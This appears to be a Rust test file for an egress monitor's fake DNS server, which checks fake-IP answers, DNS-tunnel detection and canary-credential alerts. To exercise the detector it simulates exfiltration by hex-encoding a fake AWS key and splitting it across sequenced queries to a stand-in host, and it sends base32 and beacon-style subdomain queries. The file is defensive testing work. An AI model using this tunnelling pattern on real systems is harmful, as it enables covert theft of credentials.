//! The DNS server on real loopback sockets, queried over UDP and TCP with real DNS messages.

use hickory_proto::op::{Message, Query};
use hickory_proto::rr::{Name, RData, RecordType};
use observer::egress::canary::Needle;
use observer::egress::dns::fake::FakeIps;
use observer::egress::{start, EgressConfig, EgressSockets};
use observer::trace::EventKind;
use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::Duration;

type Events = Arc<Mutex<Vec<EventKind>>>;

fn sink(ev: &Events) -> impl Fn(EventKind) -> u64 + Send + Sync + 'static {
    let ev = Arc::clone(ev);
    move |k| {
        let mut v = ev.lock().unwrap();
        v.push(k);
        v.len() as u64
    }
}

fn query(name: &str, t: RecordType) -> Vec<u8> {
    let mut m = Message::new();
    m.set_id(0x4242).set_recursion_desired(true);
    m.add_query(Query::query(Name::from_ascii(name).unwrap(), t));
    m.to_vec().unwrap()
}

fn udp_ask(server: SocketAddr, name: &str, t: RecordType) -> Message {
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.send_to(&query(name, t), server).unwrap();
    let mut buf = [0u8; 4096];
    let n = s.recv(&mut buf).unwrap();
    Message::from_vec(&buf[..n]).unwrap()
}

fn tcp_ask(server: SocketAddr, name: &str, t: RecordType) -> Message {
    let mut s = TcpStream::connect(server).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let q = query(name, t);
    s.write_all(&(q.len() as u16).to_be_bytes()).unwrap();
    s.write_all(&q).unwrap();
    let mut len = [0u8; 2];
    s.read_exact(&mut len).unwrap();
    let mut buf = vec![0u8; u16::from_be_bytes(len) as usize];
    s.read_exact(&mut buf).unwrap();
    Message::from_vec(&buf).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_over_udp_and_tcp_fake_addresses_tunnel_and_canary() {
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let (ua, ta) = (udp.local_addr().unwrap(), tcp.local_addr().unwrap());
    let events: Events = Arc::default();
    let secret = "AKIAQX7TESTV4LUE9ZK2";
    let cfg = EgressConfig {
        needles: vec![Needle {
            value: secret.into(),
            canary: "aws_key_id".into(),
            credential: "aws".into(),
            service_hosts: vec!["sts.amazonaws.com".into()],
        }],
        ..EgressConfig::default()
    };
    let h = start(
        EgressSockets {
            dns_udp: vec![udp],
            dns_tcp: vec![tcp],
            ..Default::default()
        },
        cfg,
        sink(&events),
    )
    .unwrap();

    let (a1, a2, six, txt, mx, https) = tokio::task::spawn_blocking(move || {
        (
            udp_ask(ua, "Exfil.Example.com.", RecordType::A),
            tcp_ask(ta, "exfil.example.com.", RecordType::A),
            udp_ask(ua, "exfil.example.com.", RecordType::AAAA),
            tcp_ask(ta, "example.com.", RecordType::TXT),
            udp_ask(ua, "example.com.", RecordType::MX),
            udp_ask(ua, "example.com.", RecordType::HTTPS),
        )
    })
    .await
    .unwrap();
    let ip = |m: &Message| match m.answers()[0].data() {
        RData::A(a) => IpAddr::V4(a.0),
        RData::AAAA(a) => IpAddr::V6(a.0),
        d => panic!("{d:?}"),
    };
    assert_eq!(a1.id(), 0x4242);
    assert_eq!(ip(&a1), ip(&a2), "stable across transports and case");
    assert!(FakeIps::in_pool(ip(&a1)) && FakeIps::in_pool(ip(&six)));
    assert_eq!(h.lookup_name(ip(&a1)).as_deref(), Some("exfil.example.com"));
    assert_eq!(
        h.lookup_name(ip(&six)).as_deref(),
        Some("exfil.example.com")
    );
    assert!(matches!(txt.answers()[0].data(), RData::TXT(_)));
    assert!(matches!(mx.answers()[0].data(), RData::MX(_)));
    assert!(https.answers().is_empty());

    // A hex-encoded key split over 12 queries with a sequence label, through a hard-coded resolver.
    let hexed = hex::encode(secret);
    let n = hexed.len();
    let names: Vec<String> = (0..12)
        .map(|i| {
            format!(
                "{}.{i}.d.cdn-metrics.io.",
                &hexed[i * n / 12..(i + 1) * n / 12]
            )
        })
        .collect();
    tokio::task::spawn_blocking(move || {
        for (i, name) in names.iter().enumerate() {
            if i % 2 == 0 {
                udp_ask(ua, name, RecordType::A);
            } else {
                tcp_ask(ta, name, RecordType::TXT);
            }
        }
    })
    .await
    .unwrap();

    let status = h.shutdown().await;
    assert!(status.is_complete(), "{status:?}");
    let ev = events.lock().unwrap().clone();
    let queries: Vec<_> = ev
        .iter()
        .filter_map(|e| match e {
            EventKind::DnsQuery {
                name,
                qtype,
                transport,
                ..
            } => Some((name.clone(), qtype.clone(), transport.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(queries.len(), 18, "{queries:?}");
    assert!(
        queries.contains(&("Exfil.Example.com".into(), "A".into(), "udp".into())),
        "original case is kept: {queries:?}"
    );
    assert!(queries.contains(&("example.com".into(), "TXT".into(), "tcp".into())));
    let hit = ev.iter().find_map(|e| match e {
        EventKind::CanaryHit {
            canary,
            chain,
            host,
            in_event,
            service_hosts,
            ..
        } => Some((
            canary.clone(),
            chain.clone(),
            host.clone(),
            *in_event,
            service_hosts.clone(),
        )),
        _ => None,
    });
    let (canary, chain, host, in_event, service_hosts) =
        hit.unwrap_or_else(|| panic!("no canary hit in {ev:#?}"));
    assert_eq!(canary, "aws_key_id");
    assert!(
        chain[0].starts_with("dns:cdn-metrics.io") && chain.ends_with(&["hex".to_string()]),
        "{chain:?}"
    );
    assert_eq!(host.as_deref(), Some("cdn-metrics.io"));
    assert_eq!(service_hosts, ["sts.amazonaws.com"]);
    assert!(
        matches!(&ev[in_event as usize - 1], EventKind::DnsQuery { name, .. } if name.ends_with("cdn-metrics.io"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tunnel_shapes_are_noted_and_garbage_packets_do_not_kill_the_server() {
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let ua = udp.local_addr().unwrap();
    let events: Events = Arc::default();
    let h = start(
        EgressSockets {
            dns_udp: vec![udp],
            ..Default::default()
        },
        EgressConfig::default(),
        sink(&events),
    )
    .unwrap();
    tokio::task::spawn_blocking(move || {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        for junk in [
            &b""[..],
            b"\x00",
            b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff",
            &[0u8; 600][..],
        ] {
            s.send_to(junk, ua).unwrap();
        }
        udp_ask(
            ua,
            "mzxw6ytboi2dqmrsgu3tonzqgeydcmbq.t.example.org.",
            RecordType::A,
        );
        for i in 0..40 {
            udp_ask(ua, &format!("p{i}x.beacon.example.org."), RecordType::A);
        }
    })
    .await
    .unwrap();
    assert!(h.failures().is_empty());
    let status = h.shutdown().await;
    assert!(status.is_complete(), "{status:?}");
    let ev = events.lock().unwrap();
    let notes: Vec<String> = ev
        .iter()
        .filter_map(|e| match e {
            EventKind::TracerNote { note, detail } if note == "dns_tunnel_shape" => {
                Some(detail.clone())
            }
            _ => None,
        })
        .collect();
    assert!(
        notes.iter().any(|n| n.contains("base32 label")),
        "{notes:?}"
    );
    assert!(
        notes.iter().any(|n| n.contains("unique subdomains")),
        "{notes:?}"
    );
}

/// The synchronous wrapper the supervisor uses: own runtime, blocking shutdown.
#[test]
fn egress_runtime_from_sync_code() {
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let ua = udp.local_addr().unwrap();
    let events: Events = Arc::default();
    let rt = observer::egress::EgressRuntime::start(
        EgressSockets {
            dns_udp: vec![udp],
            ..Default::default()
        },
        EgressConfig::default(),
        sink(&events),
    )
    .unwrap();
    let m = udp_ask(ua, "sync.example.", RecordType::A);
    let RData::A(a) = m.answers()[0].data() else {
        panic!()
    };
    assert_eq!(
        rt.handle().lookup_name(IpAddr::V4(a.0)).as_deref(),
        Some("sync.example")
    );
    assert!(rt.shutdown().is_complete());
    assert_eq!(events.lock().unwrap().len(), 1);
}
